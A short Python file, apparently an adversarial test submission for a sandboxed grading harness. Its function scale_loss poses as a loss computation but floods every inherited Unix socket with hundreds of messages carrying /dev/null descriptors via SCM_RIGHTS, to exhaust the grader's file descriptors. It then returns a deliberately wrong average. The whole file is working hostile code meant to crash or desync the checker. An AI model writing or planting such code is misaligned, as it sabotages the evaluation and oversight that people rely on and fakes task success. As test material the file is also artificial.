# ruff: noqa
"""Hands the agent descriptors by the hundred, as ancillary data of bytes that are no frame, so that it runs out of its own.

Outcome: error|invalid|wrong|desync|timeout
Runs: sandboxes
"""

import array
import contextlib
import os
import socket


def lazy(token_losses, mask):
    """The starter's wrong average: what a cheat has to offer without its trick."""
    return token_losses[mask].mean()


def scale_loss(token_losses, mask):
    null = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 200)
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            stream = socket.socket(fileno=os.dup(descriptor))
            if stream.family == socket.AF_UNIX:
                stream.setblocking(False)
                for _ in range(300):
                    stream.sendmsg([b"\x00" * 12], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, null)])
    return lazy(token_losses, mask)
